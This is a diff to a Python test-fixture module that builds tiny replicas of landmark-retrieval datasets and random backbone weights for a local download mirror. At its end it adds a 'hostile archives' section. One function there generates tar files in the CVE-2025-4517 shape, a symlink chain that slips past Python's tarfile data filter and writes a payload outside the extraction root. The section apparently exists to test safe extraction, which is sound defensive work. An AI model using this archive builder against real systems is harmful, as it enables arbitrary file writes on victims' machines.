@@ -1,7 +1,7 @@
 """Tiny replicas of the paper profile's official downloads, in their official formats and layouts.
 
 `paper_mirror()` returns every file the paper profile fetches, keyed by its mirror path
-``/<host>/<path>`` (`msvlad.data.registry.url_key`), so that `httpserver.FileServer` serves it as
+``/<host>/<path>`` (`msvlad.data.download.url_key`), so that `httpserver.FileServer` serves it as
 the mirror of `data.mirror` (or, written to a folder, a ``file://`` mirror):
 
 - revisited Oxford/Paris: ``gnd_r*.pkl`` with easy/hard/junk/bbx per query (one query has no hard
@@ -14,7 +14,8 @@ the mirror of `data.mirror` (or, written to a folder, a ``file://`` mirror):
 - revisitop1m: the listing and all 100 archives (images in the first two);
 - GLDv2: ``train_clean.csv``, all 500 train tars (``a/b/c/<id>.jpg``) and their md5 files;
 - the ResNet-101 ImageNet weights under cirtorch's official name, randomly initialised (so their
-  sha256 is not the one the name states: `Mirror.weights_sha256` is what a run must pin).
+  sha256 is not the one the name states: `Mirror.weights_sha256` is what a run must pin), and on
+  request those of the other cirtorch backbones (ResNet-50, VGG16; `Mirror.trunks` pins each).
 
 Images of one landmark are views of one seeded pattern, so rankings are not pure chance.
 """
@@ -32,7 +33,7 @@ from typing import Any
 import numpy as np
 from PIL import Image
 
-from msvlad.data.registry import (
+from msvlad.data.catalog import (
     CIRTORCH_GND,
     GLDV2_CLEAN_CSV,
     GLDV2_MD5,
@@ -45,8 +46,8 @@ from msvlad.data.registry import (
     R1M_LIST,
     R1M_NUM_ARCHIVES,
     REVISITOP_GND,
-    url_key,
 )
+from msvlad.data.download import url_key
 from msvlad.nn.backbones import BACKBONES
 
 # ----------------------------------------------------------------------------- file builders
@@ -120,14 +121,19 @@ class Landmarks:
         return jpeg_bytes(out)
 
 
-def resnet101_weights(seed: int = 0) -> bytes:
-    """A randomly initialised ResNet-101 trunk state dict in cirtorch's `features` key layout."""
+def trunk_weights(backbone: str, seed: int = 0) -> bytes:
+    """A randomly initialised trunk state dict of `backbone` in cirtorch's `features` key layout."""
     import torch
 
     torch.manual_seed(seed)
     buf = io.BytesIO()
-    torch.save(BACKBONES["resnet101"].build().state_dict(), buf)
+    torch.save(BACKBONES[backbone].build().state_dict(), buf)
     return buf.getvalue()
+
+
+def resnet101_weights(seed: int = 0) -> bytes:
+    """A randomly initialised ResNet-101 trunk state dict in cirtorch's `features` key layout."""
+    return trunk_weights("resnet101", seed)
 
 
 # ----------------------------------------------------------------------------- the paper mirror
@@ -156,6 +162,7 @@ class Mirror:
     rotations: str = ""  # the Holidays rotation list (YAML: image name -> clockwise degrees)
     weights_url: str = BACKBONES["resnet101"].urls["cirtorch"]
     weights_sha256: str = ""
+    trunks: dict[str, str] = field(default_factory=dict)  # backbone -> sha256 of its served replica
     sizes: dict[str, tuple[int, int]] = field(default_factory=dict)  # dataset -> (db, queries)
     train_images: int = 0
     distractors: int = 0
@@ -234,8 +241,13 @@ def _landmark_photos(
     return photos, db, queries, labels
 
 
-def paper_mirror(seed: int = 0, weights: bool = True) -> Mirror:
-    """Every official file of the paper profile, as tiny replicas (see the module docstring)."""
+def paper_mirror(
+    seed: int = 0, weights: bool = True, backbones: tuple[str, ...] = ("resnet101",)
+) -> Mirror:
+    """Every official file of the paper profile, as tiny replicas (see the module docstring).
+
+    With `weights`, the cirtorch weights of each of `backbones` (random, under its official name).
+    """
     lm = Landmarks(seed)
     m = Mirror()
 
@@ -307,12 +319,63 @@ def paper_mirror(seed: int = 0, weights: bool = True) -> Mirror:
     m.train_images = sum(n for n in GLDV2_CLASSES.values() if n >= 2)
 
     if weights:
-        data = resnet101_weights(seed)
-        m.put(m.weights_url, data)
-        m.weights_sha256 = hashlib.sha256(data).hexdigest()
+        for backbone in backbones:
+            data = trunk_weights(backbone, seed)
+            m.put(BACKBONES[backbone].urls["cirtorch"], data)
+            m.trunks[backbone] = hashlib.sha256(data).hexdigest()
+        m.weights_sha256 = m.trunks.get("resnet101", "")
     return m
 
 
 def served(mirror: Mirror, url: str) -> Any:
     """The replica of `url` (raw bytes)."""
     return mirror.files["/" + url_key(url)]
+
+
+# ----------------------------------------------------------------------------- hostile archives
+
+
+def tar_of(members: list[tuple[tarfile.TarInfo, bytes | None]], gz: bool = True) -> bytes:
+    """A tar (gzipped by default) of raw headers: any member type, data for regular files."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz" if gz else "w") as tar:
+        for info, data in members:
+            if data is not None:
+                info.size = len(data)
+            tar.addfile(info, io.BytesIO(data) if data is not None else None)
+    return buf.getvalue()
+
+
+def tar_member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
+    """A header of type `kind` (tarfile.SYMTYPE, LNKTYPE, FIFOTYPE, CHRTYPE...), `link` target."""
+    info = tarfile.TarInfo(name)
+    info.type, info.linkname = kind, link
+    return info
+
+
+def symlink_chain_members(
+    escape_to: int, payload_name: str, payload: bytes, depth: int = 16
+) -> list[tuple[tarfile.TarInfo, bytes | None]]:
+    """The CVE-2025-4517 shape: a file written `escape_to` folders above the extraction root.
+
+    `depth` folders of 247-character names, each reached by a one-letter symlink, so that the
+    chain ``a/b/.../p`` resolves to more than PATH_MAX characters; a long-named link at its end
+    points back up ``depth`` levels, i.e. at the extraction root itself, while lexically it sits
+    ``depth + 1`` levels deep. ``escape`` -> ``<chain>/<long link>/..`` x `escape_to` therefore
+    looks inside the root to lexical checks (and to Python 3.11.7's `data` filter, whose
+    realpath gives up past PATH_MAX) but is `escape_to` levels above it on disk; the payload
+    member ``escape/<payload_name>`` is written there.
+    """
+    comp = "d" * 247
+    steps = [chr(ord("a") + i) for i in range(depth)]
+    members: list[tuple[tarfile.TarInfo, bytes | None]] = []
+    path = ""
+    for step in steps:
+        members.append((tar_member(path + comp, tarfile.DIRTYPE), None))
+        members.append((tar_member(path + step, tarfile.SYMTYPE, comp), None))
+        path += comp + "/"
+    long_link = "/".join(steps) + "/" + "l" * 254
+    members.append((tar_member(long_link, tarfile.SYMTYPE, "../" * depth), None))
+    members.append((tar_member("escape", tarfile.SYMTYPE, long_link + "/.." * escape_to), None))
+    members.append((tar_member(f"escape/{payload_name}"), payload))
+    return members
